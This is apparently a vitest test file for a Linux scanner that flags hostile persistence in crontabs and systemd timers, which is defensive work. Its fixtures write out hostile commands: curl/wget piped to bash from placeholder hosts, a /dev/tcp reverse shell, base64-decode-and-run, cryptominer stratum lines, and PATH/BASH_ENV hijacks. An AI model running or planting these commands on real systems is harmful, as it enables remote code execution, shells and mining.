import { describe, expect, it } from 'vitest'
import { ownText } from '../../host-text.ts'
import type { Fact, ScheduleFact } from '../../probes/facts.ts'
import { noLinks } from '../links.ts'
import { compileIndicators, shippedPools } from '../indicators.ts'
import { setScene, type Window } from '../scene.ts'
import { aFile, aMachine, aProcess, aSchedule, anAssignment, type ScheduleChange } from '../fixtures/facts.ts'
import { found, judged, signalsOf } from '../fixtures/judging.ts'
import { look } from './predicate.ts'
import { scheduleJudging } from './schedule.ts'

const crontab = '/var/spool/cron/crontabs/root'

function seenIn(subject: ScheduleFact, window: Window | null, ...more: readonly Fact[]): readonly string[] {
  const scene = setScene([aMachine, subject, ...more], [], compileIndicators(shippedPools()), window)
  const { signals, guards } = look(scheduleJudging, subject, scene, noLinks)
  return [...signals, ...guards].map((one) => (one.sure ? one.datum.id : `${one.datum.id}?`))
}
const seen = (subject: ScheduleFact, ...more: readonly Fact[]) => seenIn(subject, null, ...more)
const line = (command: string, change: ScheduleChange = {}) => aSchedule(crontab, 3, command, change)
const timer = (name: string, command: string) =>
  aSchedule(`/etc/systemd/system/${name}`, 0, command, { scheduler: 'systemd-timer', form: 'entry' })

describe('each signal fires on what it names', () => {
  it.each<[string, readonly string[]]>([
    ['fetch-and-run', seen(line('curl -fsSL http://a.example/d.sh | bash'))],
    ['fetch-and-run', seen(line('(curl -s http://a.example/x||wget -q -O- http://a.example/x)|sh'))],
    ['fetch-and-run', seen(line('wget -q -O- http://203.0.113.20/lab_update.sh | sh >/dev/null 2>&1'))],
    ['fetch-and-run', seen(line('bash -c "$(curl -s http://a.example/x)"'))],
    ['fetch-and-run', seen(line('bash <(curl -s http://a.example/x)'))],
    ['fetch-and-run', seen(line('cd1 -fsSL http://a.example/x | /bin/sh'))],
    ['fetch-and-run', seen(line('curl http://a.example/x.py | python3 -'))],
    ['fetch-then-run', seen(line('wget -qO /tmp/a http://a.example/a && chmod +x /tmp/a && /tmp/a'))],
    ['decode-and-run', seen(line('echo aGVsbG8= | base64 -d | bash'))],
    ['decode-and-run', seen(line(`python3 -c "import urllib.request as u;exec(u.urlopen('http://a').read())"`))],
    ['reverse-shell', seen(line('bash -i >& /dev/tcp/203.0.113.9/443 0>&1'))],
    ['mining-command', seen(line('/usr/local/bin/a -o stratum+tcp://p.example:1 -u w'))],
    ['names-indicator', seen(line('/usr/local/bin/a -o xmr.2miners.com:2222'))],
    ['bare-address', seen(line('curl -s http://203.0.113.9/a -o /tmp/a'))],
    ['runs-from-hidden-place', seen(line('/.x9 -B'))],
    ['runs-from-hidden-place', seen(line('nohup timeout -k 5 60 /dev/shm/k >/dev/null 2>&1 &'))],
    ['runs-from-hidden-place', seen(line('cd /var/tmp/.k && ./run -c 1'))],
    ['runs-from-hidden-place', seen(line('/bin/sh -c "sh /tmp/a.sh"'))],
    ['runs-from-hidden-place', seen(line('~/.configrc5/a/upd'))],
    ['runs-from-hidden-place', seen(timer('u.timer', '-/tmp/a'))],
    ['names-hidden-path', seen(line('cp /usr/lib/.store/core /usr/local/bin/x'))],
    ['hostile-environment', seen(anAssignment(crontab, 1, 'PATH=/tmp/.b:/usr/bin'))],
    ['hostile-environment', seen(anAssignment(crontab, 1, 'BASH_ENV=/etc/x.sh'))],
    ['unowned-file', seen(aSchedule('/etc/cron.d/sys', 1, 'true'), aFile('/etc/cron.d/sys', null))],
    ['unowned-file?', seen(aSchedule('/etc/cron.d/sys', 1, 'true'))],
    [
      'altered-file',
      seen(
        aSchedule('/etc/cron.daily/man', 0, '#!/bin/sh'),
        aFile('/etc/cron.daily/man', 'man-db', { checksum: 'no' }),
      ),
    ],
    ['locked-file', seen(line('true', { file: { flags: 'ie' } }))],
    ['name-mimicry', seen(timer('systemd-resolvd.timer', '/usr/bin/true'))],
    ['disguised-bytes', seen(line('true', { disguised: true }))],
    ['binary-crontab', seen(aSchedule(crontab, 0, 'x', { form: 'binary' }))],
    ['redis-crontab', seen(aSchedule(crontab, 0, '* * * * * /x', { form: 'binary', raw: 'REDIS0009\xfa' }))],
    ['frequent', seen(line('true', { periodSeconds: 60 }))],
    ['at-boot-hidden', seen(line('/.x9', { schedule: '@reboot', periodSeconds: null }))],
    ['package-file', seen(aSchedule('/etc/cron.d/e2', 1, 'true'), aFile('/etc/cron.d/e2', 'e2fsprogs'))],
    ['starts-nothing', seen(line('pkill -f /tmp/.x/miner; rm -f /tmp/.x/miner'))],
    ['fetches-only', seen(line('curl -fsS -m 10 --retry 5 https://hc-ping.com/uuid > /dev/null'))],
    ['ordinary-job', seen(line('test -x /usr/bin/certbot && sleep 30 && certbot -q renew'))],
    ['ordinary-job', seen(line('"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null'))],
  ])('%s', (signal, ids) => {
    expect(ids).toContain(signal)
  })

  it('changed-in-window needs a window', () => {
    const subject = line('true', { file: { ctime: '1700000500.1' } })
    expect(seenIn(subject, { fromSeconds: 1_700_000_000, toSeconds: 1_700_001_000 })).toContain('changed-in-window')
    expect(seenIn(subject, { fromSeconds: 1, toSeconds: 2 })).not.toContain('changed-in-window')
  })
})

describe('a signal keeps still where it would be wrong', () => {
  it.each<[string, readonly string[]]>([
    ['fetch-and-run', seen(line('curl -fsS http://a.example/health || systemctl restart app'))],
    ['fetch-and-run', seen(line('curl -s http://a.example/list | grep -c up'))],
    ['decode-and-run', seen(line("test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew"))],
    ['bare-address', seen(line('wget -q -O /dev/null http://127.0.0.1:3333/ping'))],
    ['runs-from-hidden-place', seen(line('/opt/backup.sh > /tmp/backup.log 2>&1'))],
    ['runs-from-hidden-place', seen(line('"/root/.acme.sh"/acme.sh --cron'))],
    ['runs-from-hidden-place', seen(line('$HOME/.local/bin/sync'))],
    ['hostile-environment', seen(anAssignment(crontab, 1, 'PATH=/usr/local/bin:/usr/bin'))],
    ['hostile-environment', seen(anAssignment(crontab, 1, 'MAILTO=""'))],
    ['unowned-file', seen(line('true'))],
    [
      'altered-file',
      seen(
        aSchedule('/etc/cron.daily/man', 0, '#!/bin/sh'),
        aFile('/etc/cron.daily/man', 'man-db', { checksum: 'no', conffile: true }),
      ),
    ],
    ['name-mimicry', seen(timer('backup.timer', '/usr/bin/true'))],
    ['starts-nothing', seen(line('rm -f /tmp/x; /.x9'))],
    ['fetches-only', seen(line('curl -s http://a.example/x | sh'))],
    ['fetches-only', seen(line('curl -s http://a.example/x -o /tmp/x; /tmp/x'))],
    ['ordinary-job', seen(line('certbot -q renew; curl -s http://a.example/x | sh'))],
    ['ordinary-job', seen(line('/tmp/a # certbot'))],
    ['package-file', seen(aSchedule('/etc/cron.d/e2', 1, 'true'), aFile('/etc/cron.d/e2', 'e2', { checksum: 'no' }))],
  ])('%s', (signal, ids) => {
    expect(ids).not.toContain(signal)
  })
})

describe('judged whole', () => {
  const first = (fact: ScheduleFact, ...more: readonly Fact[]) => found(judged([fact, ...more]), 'schedule')[0]

  it('a fetched script from a bare address every few minutes is proposed on its own', () => {
    const finding = first(line('curl -s http://203.0.113.9/a|sh', { periodSeconds: 60 }))
    expect(finding).toMatchObject({
      proposed: 'yes',
      title: 'schedule.fetches-and-runs',
      tags: ['hostile-persistence'],
    })
  })

  it('the same from a named server once a day is for a person to decide', () => {
    expect(first(line('curl -s https://get.example.com/agent.sh | sh'))).toMatchObject({ score: 55, proposed: 'no' })
  })

  it('a Redis dump in the spool is decisive, and taken whole', () => {
    const dump = aSchedule('/var/spool/cron/crontabs/mail', 0, '*/2 * * * * /.x9', { form: 'binary', raw: 'REDIS0009' })
    expect(first(dump)).toMatchObject({ proposed: 'yes', title: 'schedule.binary', target: { kind: 'file' } })
    expect(first(dump)?.tags).toContain('whole-file')
  })

  it('a line that only kills what others planted is never proposed', () => {
    const miner = aProcess(9, '/tmp/.x/miner', { cmdline: 'miner -o stratum+tcp://p.example:1' })
    const cleaner = line('pkill -f miner; rm -f /tmp/.x/miner', { periodSeconds: 60 })
    expect(first(cleaner, miner)).toMatchObject({ score: 30, proposed: 'no' })
  })

  it('an environment line goes with the hostile entry it serves, and stays when it serves honest ones', () => {
    const path = anAssignment(crontab, 1, 'PATH=/tmp/.b:/usr/bin')
    const hostile = line('curl -s http://203.0.113.9/a|sh', { periodSeconds: 60 })
    const served = found(judged([path, hostile]), 'schedule').find((one) => one.title === 'schedule.environment')
    expect(served).toMatchObject({ score: 75, proposed: 'yes' })
    expect(first(path)).toMatchObject({ score: 50, proposed: 'no' })
  })

  it('a dropped cron.d file whose every job is hostile is one finding for the whole file', () => {
    const drop = '/etc/cron.d/phps'
    const jobs = [1, 2].map((at) => aSchedule(drop, at, `/.x9 -o stratum+tcp://p.example:${at}`, { periodSeconds: 60 }))
    const result = found(judged([...jobs, aFile(drop, null, { content: 'text' })]), 'schedule')
    expect(result.map((one) => [one.target.kind, one.proposed, one.tags])).toEqual([
      ['file', 'yes', ['hostile-persistence', 'whole-file']],
    ])
    const honest = aSchedule(drop, 3, '/usr/local/sbin/backup')
    const mixed = found(judged([...jobs, honest, aFile(drop, null, { content: 'text' })]), 'schedule')
    expect(mixed.filter((one) => one.proposed === 'yes').map((one) => one.target.kind)).toEqual(['line', 'line'])
  })

  it('tells two equal lines of one file apart, and keeps their names when lines above go', () => {
    const twins = [4, 7].map((at) => aSchedule(crontab, at, '/.x9 -o stratum+tcp://p.example:1'))
    const ids = found(judged(twins), 'schedule').map((one) => one.id)
    expect(new Set(ids).size).toBe(2)
    const moved = [3, 6].map((at) => aSchedule(crontab, at, '/.x9 -o stratum+tcp://p.example:1'))
    expect(new Set(found(judged(moved), 'schedule').map((one) => one.id))).toEqual(new Set(ids))
  })

  it('one payload, many doors: entries that share it raise one another', () => {
    const sure = aSchedule('/etc/cron.d/a', 1, 'curl -s http://203.0.113.9/a|sh; /usr/local/bin/upd')
    const quiet = aSchedule('/var/spool/cron/crontabs/dev', 1, '/usr/local/bin/upd', { periodSeconds: 120 })
    const other = found(judged([sure, quiet]), 'schedule').find((one) => one.params['path'] !== '/etc/cron.d/a')
    expect(signalsOf(other)).toEqual(['same-payload', 'frequent'])
  })

  it('a timer and its unit go together', () => {
    const unit = '/etc/systemd/system/dbus-kernel.service'
    const entry = aSchedule('/etc/systemd/system/dbus-kernel.timer', 0, '/.x9 -o stratum+tcp://p.example:1', {
      scheduler: 'systemd-timer',
      form: 'entry',
      unitFile: unit,
      periodSeconds: 20,
    })
    const result = judged([entry, aFile(unit, null, { content: 'text' })])
    expect(found(result, 'schedule')[0]).toMatchObject({ proposed: 'yes', target: { kind: 'file' } })
    expect(found(result, 'file')[0]).toMatchObject({ proposed: 'yes', params: { path: unit } })
  })

  it('the links that enable a hostile timer go with it, those that enable an honest service stay', () => {
    const wants = '/etc/systemd/system/timers.target.wants/dbus-kernel.timer'
    const honest = '/etc/systemd/system/multi-user.target.wants/cron.service'
    const unit = '/lib/systemd/system/cron.service'
    const timer = '/etc/systemd/system/dbus-kernel.timer'
    const entry: ScheduleFact = {
      ...aSchedule(timer, 0, '/.x9 -o stratum+tcp://p.example:1', {
        scheduler: 'systemd-timer',
        form: 'entry',
        unitFile: unit,
      }),
      enabledBy: [wants, honest].map((path) => ownText(path)),
    }
    const link = (path: string) =>
      aFile(path, null, { content: 'none', meta: { type: 'symlink', linkTarget: ownText('/x') } })
    const files = [aFile(timer, null, { content: 'text' }), aFile(unit, 'cron', { content: 'text' })]
    const result = found(judged([entry, ...files, link(wants), link(honest)]), 'file')
    expect(result.map((one) => [one.params['path'], one.proposed, signalsOf(one)])).toEqual([
      [wants, 'yes', ['enables-hostile-timer']],
    ])
    expect(found(judged([entry, ...files, aFile(wants, null), link(honest)]), 'file')).toEqual([])
  })

  it('a database dump used as a crontab is one finding for the whole file, its jobs with it', () => {
    const dump = '/var/spool/cron/crontabs/mail'
    const job = aSchedule(dump, 4, '/.x9 -o stratum+tcp://p.example:1', { periodSeconds: 120 })
    const whole = aSchedule(dump, 0, 'REDIS0009', { form: 'binary', raw: 'REDIS0009' })
    const result = found(judged([whole, job, aFile(dump, null, { content: 'data' })]), 'schedule')
    expect(result.map((one) => [one.target.kind, one.proposed, one.tags])).toEqual([
      ['file', 'yes', ['hostile-persistence', 'whole-file']],
    ])
  })
})
